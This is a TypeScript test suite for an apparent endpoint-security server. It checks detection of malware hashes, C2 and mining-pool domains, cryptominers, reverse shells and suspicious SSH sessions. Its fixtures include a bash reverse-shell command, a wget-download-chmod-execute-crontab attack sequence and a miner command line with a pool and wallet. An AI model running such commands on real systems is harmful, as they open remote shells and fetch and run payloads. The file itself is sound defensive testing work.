import { test, describe, after } from "node:test";
import assert from "node:assert/strict";
import { join } from "node:path";
import { writeFileSync } from "node:fs";
import { FakeClock } from "../core/index.ts";
import { tempDir, startServer, enrolToken } from "../../test/helpers.ts";

const tmp = tempDir();
after(() => tmp.cleanup());
let n = 0;
const EVIL = "e".repeat(64);

type Asset = { agentId: string; secret: string };

/** A server whose intel feeds include a test feed (a malware hash and a C2 domain) beside the shipped lists. */
async function setup() {
  const clock = new FakeClock("2026-06-01T08:00:00Z");
  const feed = join(tmp.dir, `feed-${n}.csv`);
  writeFileSync(feed, `type,value,category,note\nsha256,${EVIL},malicious,test malware\ndomain,c2.bad.example,c2,test c2\nip,5.9.99.99,c2,test c2 address\n`);
  const { server, adminToken } = await startServer({ dataDir: join(tmp.dir, `s${n++}`), clock, listen: false, overrides: { intelPaths: [feed] } });
  const en = await server.agentChannel.inject({ method: "POST", url: "/agent/v1/enrol", payload: { token: await enrolToken(server), hostname: "web-1", version: "1", os: "linux" } });
  const web = en.json() as Asset;
  let seq = 0;
  const send = async (records: object[]) => {
    const r = await server.agentChannel.inject({ method: "POST", url: "/agent/v1/telemetry", headers: { authorization: `Bearer ${web.agentId}.${web.secret}` }, payload: { records: records.map((x) => ({ id: `rec-${String(seq++).padStart(8, "0")}`, ...x })) } });
    assert.equal(r.statusCode, 200, r.body);
    assert.deepEqual(r.json().rejected, []);
  };
  const api = async (url: string, method = "GET", payload?: object) => {
    const r = await server.api.inject({ method: method as "GET", url, payload, headers: { authorization: `Bearer ${adminToken}` } });
    return { status: r.statusCode, body: r.json() };
  };
  const alerts = async (type: string) => (await api(`/api/v1/alerts?type=${type}&limit=100`)).body.items as { id: string; status: string; handledHow: string | null; firstSeen: string; detectedAt: string; evidence: Record<string, unknown>; count: number }[];
  const proc = (o: { pid: number; name: string; exe?: string; cmd?: string; sha256?: string; action?: string; ts?: number }) => ({
    kind: "process", ts: o.ts ?? clock.now(), event: { action: o.action ?? "start" },
    process: { pid: o.pid, ppid: 1, name: o.name, executable: o.exe ?? `/usr/bin/${o.name}`, command_line: o.cmd ?? o.name, start: Date.parse("2026-06-01T07:00:00Z") + o.pid, ...(o.sha256 ? { hash: { sha256: o.sha256 } } : {}), ancestors: [{ pid: 1, name: "systemd" }] },
  });
  return { server, clock, web, send, api, alerts, proc };
}

describe("host telemetry through ingest (PRC, MIN)", () => {
  test("PRC-4 with proactive defence on for the asset, a process with a known-malicious hash is killed on sight: the alert is Blocked, handled, and notifies no one", async () => {
    const { server, web, send, api, alerts, proc } = await setup();
    try {
      await server.store.notifications.insertChannel({ id: "ch_prc4", accountId: "default", name: "hook", kind: "webhook", config: { url: "http://127.0.0.1:9/hook", secret: "0123456789abcdef0123" }, minSeverity: "low", types: [], enabled: true, createdAt: 0, updatedAt: 0 });
      // off (the default): an ordinary critical alert that notifies
      await send([proc({ pid: 4000, name: "dbused", exe: "/tmp/dbused", sha256: EVIL })]);
      let [a] = await alerts("malicious_process");
      assert.equal(a?.status, "unhandled");
      assert.equal((await api("/api/v1/actions")).body.items.filter((x: { type: string }) => x.type === "kill_process").length, 0);
      assert.deepEqual((a!.evidence["process.intel"] as { list: string }).list.length > 0, true);
      const notified = async () => (await server.store.notifications.listOutbox("default", { limit: 50, offset: 0 })).items.length;
      assert.equal(await notified(), 1);
      await api(`/api/v1/alerts/${a!.id}/handle`, "POST", { action: "mark_handled" });

      assert.equal((await api("/api/v1/settings/proactive-defence", "PUT", { enabled: false, assets: { [web.agentId]: true } })).status, 200);
      await send([proc({ pid: 4100, name: "dbused", exe: "/tmp/.x/dbused", sha256: EVIL })]);
      a = (await alerts("malicious_process")).find((x) => x.status !== "handled");
      assert.equal(a?.status, "blocked", "a precision-defence alert");
      assert.match(String(a?.handledHow), /killed by proactive defence/);
      const kill = (await api("/api/v1/actions")).body.items.find((x: { type: string }) => x.type === "kill_process");
      assert.ok(kill, "a kill_process action is queued for the agent");
      assert.deepEqual([kill.params.pid, kill.params.sha256], [4100, EVIL]);
      assert.equal(await notified(), 1, "not notified");
      const r = await api(`/api/v1/alerts/${a!.id}/handle`, "POST", { action: "whitelist", scope: "asset" });
      assert.equal(r.status, 409, "a precision-defence alert never changes");
    } finally {
      await server.close();
    }
  });

  test("PRC-3 a DNS query for a listed domain alerts with the query time as its occurrence and the detection time beside it", async () => {
    const { server, clock, send, alerts } = await setup();
    try {
      const queried = clock.now() - 10 * 60_000;
      await send([{ kind: "dns", ts: queried, resolver: "dnsmasq", dns: { question: { name: "c2.bad.example", type: "A" } }, source: { ip: "10.0.0.5" } }]);
      await send([{ kind: "dns", ts: queried, resolver: "dnsmasq", dns: { question: { name: "xmr.pool.supportxmr.com", type: "A" } }, source: { ip: "10.0.0.5" } }]);
      await send([{ kind: "dns", ts: queried, resolver: "bind", dns: { question: { name: "deb.debian.org", type: "A" } } }]);
      const got = await alerts("malicious_domain");
      assert.equal(got.length, 2, "the listed C2 domain and the mining pool (a subdomain of a listed pool); not debian.org");
      const c2 = got.find((a) => (a.evidence["dns.intel"] as { category: string }).category === "c2")!;
      assert.equal(c2.firstSeen, new Date(queried).toISOString(), "occurrence = the query time");
      assert.equal(c2.detectedAt, new Date(clock.now()).toISOString(), "detection time beside it");
    } finally {
      await server.close();
    }
  });

  test("MIN-2 MIN-3 PRC-2 a miner by name and flags, its stratum connection, a reverse shell with its process tree, and a C2 connection", async () => {
    const { server, send, alerts, proc } = await setup();
    try {
      await send([proc({ pid: 5000, name: "kthreadd2", exe: "/var/tmp/.cache/kthreadd2", cmd: "/var/tmp/.cache/kthreadd2 -o stratum+tcp://198.51.100.20:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1" })]);
      const [m] = await alerts("mining_program");
      assert.ok(m, "MIN-3 mining program alert");
      assert.ok((m!.evidence["process.minerReasons"] as string[]).some((x) => /miner flag|pool URL/.test(x)));
      await send([{ kind: "connection", ts: Date.parse("2026-06-01T08:00:00Z"), event: { action: "opened" }, network: { transport: "tcp", type: "ipv4", direction: "outbound" }, source: { ip: "10.0.0.5", port: 40000 }, destination: { ip: "198.51.100.20", port: 3333 }, process: { pid: 5000, name: "kthreadd2", executable: "/var/tmp/.cache/kthreadd2", command_line: "/var/tmp/.cache/kthreadd2 -o stratum+tcp://198.51.100.20:3333 --donate-level 1" }, firstSeen: Date.parse("2026-06-01T08:00:00Z"), lastSeen: Date.parse("2026-06-01T08:00:00Z") }]);
      // 198.51.100.0/24 is a documentation range: not public, so no pool verdict from the port; a public pool address does
      assert.equal((await alerts("mining_pool")).length, 0, "private/documentation destinations are not judged as pools");
      await send([{ kind: "connection", ts: Date.parse("2026-06-01T08:00:01Z"), event: { action: "opened" }, network: { transport: "tcp", type: "ipv4", direction: "outbound" }, source: { ip: "10.0.0.5", port: 40001 }, destination: { ip: "5.9.10.11", port: 3333 }, process: { pid: 5000, name: "kthreadd2", command_line: "kthreadd2 -o stratum+tcp://5.9.10.11:3333 --donate-level 1" }, firstSeen: 1, lastSeen: 1 }]);
      const [pool] = await alerts("mining_pool");
      assert.ok(pool, "MIN-2 a stratum port from a miner-like process");
      assert.match(String((pool!.evidence["destination.poolReasons"] as string[])[0]), /stratum port 3333/);
      // a plain process talking to 5.9.10.11:3333 is not judged a pool on the port alone
      await send([{ kind: "connection", ts: Date.parse("2026-06-01T08:00:02Z"), event: { action: "opened" }, network: { transport: "tcp", type: "ipv4", direction: "outbound" }, source: { ip: "10.0.0.5", port: 40002 }, destination: { ip: "5.9.10.12", port: 3333 }, process: { pid: 5001, name: "node", command_line: "node server.js" }, firstSeen: 1, lastSeen: 1 }]);
      assert.equal((await alerts("mining_pool")).length, 1);

      await send([proc({ pid: 6000, name: "bash", cmd: "bash -i >& /dev/tcp/10.77.2.2/4444 0>&1" })]);
      const [rs] = await alerts("reverse_shell");
      assert.ok(rs);
      assert.deepEqual(rs!.evidence["process.ancestors"], [{ pid: 1, name: "systemd" }], "the process tree is in the evidence");

      await send([{ kind: "connection", ts: Date.parse("2026-06-01T08:00:03Z"), event: { action: "opened" }, network: { transport: "tcp", type: "ipv4", direction: "outbound" }, source: { ip: "10.0.0.5", port: 40003 }, destination: { ip: "5.9.99.99", port: 443 }, process: { pid: 7000, name: "curl" }, firstSeen: 1, lastSeen: 1 }]);
      const [c2] = await alerts("malicious_ip");
      assert.equal((c2?.evidence["destination.intel"] as { category: string }).category, "c2", "PRC-2 access to a malicious IP");
    } finally {
      await server.close();
    }
  });

  test("PRC-1 the intel lookup API answers from the shipped lists and the operators' feeds", async () => {
    const { server, api } = await setup();
    try {
      const pool = (await api("/api/v1/intel/lookup?value=pool.supportxmr.com")).body;
      assert.equal(pool.kind, "domain");
      assert.equal(pool.matches[0].category, "mining_pool");
      const hash = (await api(`/api/v1/intel/lookup?value=${EVIL}`)).body;
      assert.equal(hash.matches[0].category, "malicious");
      assert.equal((await api("/api/v1/intel/lookup?value=8.8.8.8")).body.matches.length, 0);
      const st = (await api("/api/v1/intel/sources")).body;
      assert.ok(st.sources.some((s: { shipped: boolean; entries: number }) => !s.shipped && s.entries === 3), JSON.stringify(st.sources.map((s: { name: string; entries: number }) => [s.name, s.entries])));
    } finally {
      await server.close();
    }
  });

  test("AGT-3 AGT-4 an asset's processes and connections: the latest record of each, exited and closed ones left out", async () => {
    const { server, clock, web, send, api, proc } = await setup();
    try {
      await send([proc({ pid: 100, name: "nginx" }), proc({ pid: 101, name: "sleep" })]);
      clock.advance(5000);
      await send([proc({ pid: 100, name: "nginx", action: "sample" }), { ...proc({ pid: 101, name: "sleep" }), event: { action: "exit" } }]);
      const c = (port: number, action: string) => ({ kind: "connection", ts: clock.now(), event: { action }, network: { transport: "tcp", type: "ipv4", direction: "inbound" }, source: { ip: "10.0.0.5", port: 443 }, destination: { ip: "10.0.0.9", port }, process: { pid: 100, name: "nginx" }, firstSeen: clock.now(), lastSeen: clock.now() });
      await send([c(50000, "opened"), c(50001, "opened")]);
      clock.advance(5000);
      await send([c(50001, "closed")]);
      const ps = (await api(`/api/v1/assets/${web.agentId}/processes`)).body.items as { action: string; process: { pid: number } }[];
      assert.deepEqual(ps.map((p) => [p.process.pid, p.action]), [[100, "sample"]]);
      const cs = (await api(`/api/v1/assets/${web.agentId}/connections`)).body.items as { destination: { port: number } }[];
      assert.deepEqual(cs.map((x) => x.destination.port), [50000]);
      assert.equal((await api("/api/v1/assets/ag_nope/processes")).status, 404);
    } finally {
      await server.close();
    }
  });

  test("LOG-8 an SSH logon followed by recon, download, execute and persistence in its session alerts, naming the session's account and address", async () => {
    const { server, clock, send, alerts, proc } = await setup();
    try {
      const session = { sshdPid: 900, user: "deploy", sourceIp: "203.0.113.9" };
      const steps = ["uname -a", "cat /proc/cpuinfo", "wget -q http://203.0.113.7/kworker -O /tmp/kworker", "chmod +x /tmp/kworker", "/tmp/kworker", "crontab /tmp/c"];
      for (const [i, cmd] of steps.entries()) {
        clock.advance(30_000);
        await send([{ ...proc({ pid: 1000 + i, name: cmd.split(" ")[0]!.split("/").pop()!, cmd }), session }]);
      }
      const [a] = await alerts("suspicious_ssh_session");
      assert.ok(a, "the session is alerted");
      assert.deepEqual(a!.evidence["session"], session);
      // an admin's session with only recon commands is not
      for (const [i, cmd] of ["uname -a", "id", "df -h", "free -m"].entries()) await send([{ ...proc({ pid: 2000 + i, name: cmd.split(" ")[0]!, cmd }), session: { sshdPid: 901, user: "alice" } }]);
      assert.equal((await alerts("suspicious_ssh_session")).length, 1);
    } finally {
      await server.close();
    }
  });
});
